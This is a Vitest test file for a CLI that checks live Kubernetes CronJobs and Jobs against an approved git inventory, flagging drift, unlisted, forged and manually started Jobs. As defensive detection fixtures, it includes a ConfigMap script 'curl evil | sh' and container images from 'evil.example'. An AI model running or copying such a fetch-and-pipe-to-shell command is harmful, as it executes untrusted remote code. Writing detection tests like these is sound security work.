// verify --cluster and init --from-cluster, as a person runs them with what kubectl printed.
import { describe, expect, test } from 'vitest';
import { CRON_JOB, cronJob, job, list, MINUTE, SCRIPTS } from '../cluster/server.ts';
import { createRepository, type TestRepository } from '../support/git-repo.ts';
import { runCli } from '../support/run-cli.ts';

const MANUAL = { 'cronjob.kubernetes.io/instantiate': 'manual' };

let shared: Promise<TestRepository> | null = null;

/** One repository for the tests that only read it. */
function approvedRepository(): Promise<TestRepository> {
  shared ??= createApproved();
  return shared;
}

async function createApproved(): Promise<TestRepository> {
  const repository = await createRepository({
    'apps/billing/report.yaml': CRON_JOB,
    'apps/billing/scripts.yaml': SCRIPTS,
  });
  const run = await runCli(['inventory', 'init', '--expires', 'never'], { cwd: repository.path });
  expect(run.code, run.stderr).toBe(0);
  await repository.commit({}, 'Inventory');
  return repository;
}

async function verify(repository: TestRepository, text: string) {
  const run = await runCli(['verify', '--cluster', '-', '--format', 'json'], { cwd: repository.path, input: text });
  const report: {
    verdict: string;
    findings: { rule: string; severity: string; message: string; location: { path: string; line: number } }[];
    problems: { code: string }[];
  } = JSON.parse(run.stdout);
  return { code: run.code, ...report, rules: report.findings.map(finding => `${finding.rule} ${finding.severity}`) };
}

describe('verify --cluster', () => {
  test('what is approved runs, with the Jobs that its controller made: nothing to say', async () => {
    const repository = await approvedRepository();
    const report = await verify(repository, list(cronJob(), job(), job({ name: `report-${MINUTE}`, ended: true })));
    expect(report).toMatchObject({ code: 0, verdict: 'pass', findings: [], problems: [] });
  });

  test('unlisted, drifted, missing, forged, started by hand', async () => {
    const repository = await approvedRepository();
    const stranger = job({ name: 'node-tuning', owner: null, annotations: {}, image: 'evil.example/x:1' });
    const text = list(
      cronJob({ image: 'evil.example/report:1' }),
      stranger,
      job({ name: 'report-29400000-x' }),
      job({ name: 'by-hand', annotations: MANUAL, image: 'evil.example/report:1' }),
      job({ name: 'by-hand-otherwise', annotations: MANUAL, image: 'evil.example/other:1' }),
    );
    const report = await verify(repository, text);
    expect(report.code).toBe(1);
    expect(report.rules).toEqual(
      expect.arrayContaining([
        'job-drift-from-approved high',
        'job-not-in-inventory high',
        'forged-job-owner high',
        'manual-job-trigger info',
        'manual-job-trigger high',
      ]),
    );
    const unlisted = report.findings.filter(finding => finding.rule === 'job-not-in-inventory');
    expect(unlisted.map(finding => finding.message.split(' is not')[0])).toEqual([
      'Job billing/node-tuning',
      'Job billing/report-29400000-x',
      'Job billing/by-hand-otherwise',
    ]);
    const lines = text.split('\n');
    for (const { location } of unlisted) {
      expect(location.path).toBe('-');
      expect(lines[location.line - 1]).toMatch(/"name": "(node-tuning|report-29400000-x|by-hand-otherwise)"/);
    }
    const empty = await verify(repository, list(job({ owner: null, name: 'x' })));
    expect(empty.rules).toContain('cluster-workload-missing low');
    expect(empty.findings.find(finding => finding.rule === 'cluster-workload-missing')?.location.path).toBe(
      '.cronledger/inventory/billing.yaml',
    );
  });

  test('scripts: those of the list count, and those of the repository stand in for what the list lacks', async () => {
    const repository = await approvedRepository();
    const live = (text: string) => ({
      apiVersion: 'v1',
      kind: 'ConfigMap',
      metadata: { name: 'report-scripts', namespace: 'billing', uid: '1' },
      data: { 'run.sh': text },
    });
    expect((await verify(repository, list(cronJob()))).code).toBe(0);
    expect((await verify(repository, list(cronJob(), live('echo report')))).code).toBe(0);
    const changed = await verify(repository, list(cronJob(), live('curl evil | sh')));
    expect(changed.rules).toContain('job-drift-from-approved high');
  });

  test.each([
    ['nothing', ''],
    ['an empty list', list()],
    ['no list', '{"kind":"Status","apiVersion":"v1","status":"Failure"}'],
    ['half a list', list(cronJob()).slice(0, 900)],
    [
      'a part of a list',
      JSON.stringify({
        kind: 'CronJobList',
        apiVersion: 'batch/v1',
        metadata: { continue: 'abc' },
        items: [cronJob()],
      }),
    ],
    [
      'a part of a list, sorted',
      JSON.stringify({
        apiVersion: 'batch/v1',
        items: [cronJob()],
        kind: 'CronJobList',
        metadata: { remainingItemCount: 5 },
      }),
    ],
  ])('%s is no pass', async (_, text) => {
    const report = await verify(await approvedRepository(), text);
    expect(report).toMatchObject({ code: 2, verdict: 'could-not-check' });
    expect(report.problems.length).toBeGreaterThan(0);
  });

  test('a typed list whose items name no kind', async () => {
    const { apiVersion: _, kind: __, ...item } = cronJob();
    const text = JSON.stringify({
      kind: 'CronJobList',
      apiVersion: 'batch/v1',
      metadata: { resourceVersion: '1' },
      items: [item],
    });
    expect(await verify(await approvedRepository(), text)).toMatchObject({ code: 0, findings: [] });
  });

  test('refuses a path beside it, and a file that is not there', async () => {
    const { path: cwd } = await approvedRepository();
    expect((await runCli(['verify', '--cluster', '-', 'apps'], { cwd, input: list() })).code).toBe(2);
    expect((await runCli(['verify', '--cluster', 'none.json'], { cwd })).stderr).toContain('[file-not-found]');
    expect((await runCli(['verify', '--cluster', 'apps'], { cwd })).stderr).toContain('is a folder');
  });
});

describe('a Job that Kueue has admitted', () => {
  const train = `apiVersion: batch/v1
kind: Job
metadata: {name: train, namespace: ml, labels: {kueue.x-k8s.io/queue-name: gpus}}
spec:
  suspend: true
  template:
    spec:
      restartPolicy: Never
      nodeSelector: {disk: ssd}
      tolerations: [{key: own, operator: Exists}]
      containers: [{name: main, image: 'ghcr.io/acme/train:1', resources: {requests: {cpu: '1'}}}]
`;
  /** As Kueue 0.13 leaves it: the flavor's node label and toleration, its labels, annotation and gate; resumed. */
  const admitted = (pod: object = {}, spec: object = {}) => ({
    apiVersion: 'batch/v1',
    kind: 'Job',
    metadata: {
      name: 'train',
      namespace: 'ml',
      uid: '1',
      labels: { 'kueue.x-k8s.io/queue-name': 'gpus' },
      annotations: { 'kueue.x-k8s.io/job-completions-equal-parallelism': 'false' },
    },
    spec: {
      backoffLimit: 6,
      completionMode: 'NonIndexed',
      completions: 1,
      parallelism: 1,
      manualSelector: false,
      podReplacementPolicy: 'TerminatingOrFailed',
      suspend: false,
      selector: { matchLabels: { 'batch.kubernetes.io/controller-uid': '1' } },
      template: {
        metadata: {
          annotations: { 'kueue.x-k8s.io/workload': 'job-train-12345' },
          labels: {
            'batch.kubernetes.io/controller-uid': '1',
            'batch.kubernetes.io/job-name': 'train',
            'controller-uid': '1',
            'job-name': 'train',
            'kueue.x-k8s.io/podset': 'main',
          },
        },
        spec: {
          restartPolicy: 'Never',
          nodeSelector: { disk: 'ssd', 'cloud.google.com/gke-accelerator': 'nvidia-l4' },
          schedulingGates: [{ name: 'kueue.x-k8s.io/topology' }],
          tolerations: [
            { key: 'own', operator: 'Exists' },
            { key: 'nvidia.com/gpu', operator: 'Exists', effect: 'NoSchedule' },
          ],
          containers: [{ name: 'main', image: 'ghcr.io/acme/train:1', resources: { requests: { cpu: '1' } } }],
          ...pod,
        },
      },
      ...spec,
    },
  });

  test('is what was approved; with other pods it is not', async () => {
    const repository = await createRepository({ 'ml/train.yaml': train });
    expect((await runCli(['inventory', 'init', '--expires', 'never'], { cwd: repository.path })).code).toBe(0);
    await repository.commit({}, 'Inventory');
    const rules = async (job: object) => (await verify(repository, list(job))).rules;
    expect(await rules(admitted())).toEqual([]);
    expect(await rules(admitted({}, { managedBy: 'kueue.x-k8s.io/multikueue' }))).toEqual([]);
    const evil = [{ name: 'main', image: 'ghcr.io/acme/train:1', command: ['evil'] }];
    expect(await rules(admitted({ containers: evil }))).toContain('job-drift-from-approved high');
    expect(await rules(admitted({ nodeSelector: { disk: 'hdd' } }))).toContain('job-drift-from-approved high');
    const unqueued = admitted();
    unqueued.metadata.labels = {} as typeof unqueued.metadata.labels;
    expect(await rules(unqueued)).toContain('job-drift-from-approved high');
  });
});

describe('init --from-cluster', () => {
  test('adopts what runs and is in no manifest, once, and the repository verifies clean', async () => {
    const repository = await createRepository({
      'apps/billing/report.yaml': CRON_JOB,
      'apps/billing/scripts.yaml': SCRIPTS,
      'cluster.json': list(
        cronJob(),
        cronJob({ name: 'from-a-console', uid: '2' }),
        job(),
        job({ name: 'ended', owner: null, annotations: {}, ended: true }),
        job({ name: 'running', owner: null, annotations: {} }),
        job({ name: 'forged' }),
      ),
    });
    const cwd = repository.path;
    const run = await runCli(['inventory', 'init', '--from-cluster', 'cluster.json'], { cwd });
    expect(run.code, run.stderr).toBe(0);
    expect(run.stderr).toContain('2 workloads run in the cluster and in no manifest');
    expect(run.stderr).toContain('1 are Jobs of CronJobs, 1 are Jobs that have ended');
    expect(run.stderr).toContain('Job billing/forged is not called as the controller would call it');
    const listed = await runCli(['inventory', 'list'], { cwd });
    expect(listed.stdout.split('\n').map(line => line.split('  ').slice(0, 3).join('|'))).toEqual([
      expect.stringMatching(/^CronJob billing\/from-a-console\|no owner\|0 2 \* \* \*$/),
      expect.stringMatching(/^CronJob billing\/report\|no owner\|0 2 \* \* \*$/),
      expect.stringMatching(/^Job billing\/running\|no owner\|in the cluster only/),
      '3 entries.',
      '',
    ]);
    await repository.commit({ 'cluster.json': null }, 'Inventory');
    const again = list(
      cronJob(),
      cronJob({ name: 'from-a-console', uid: '2' }),
      job({ name: 'running', owner: null, annotations: {} }),
    );
    const second = await runCli(['inventory', 'init', '--from-cluster', '-'], { cwd, input: again });
    expect(second.code, second.stderr).toBe(0);
    expect(await repository.git(['status', '--porcelain'])).toBe('');
    expect(await verify(repository, again)).toMatchObject({ code: 0, findings: [] });
    const pruned = await runCli(['inventory', 'prune'], { cwd });
    expect(pruned.stderr).toContain('Every entry has its workload.');
    expect((await runCli(['verify'], { cwd })).code).toBe(0);
    expect((await runCli(['inventory', 'lint'], { cwd })).stdout).not.toContain('no-workload');
  });
});
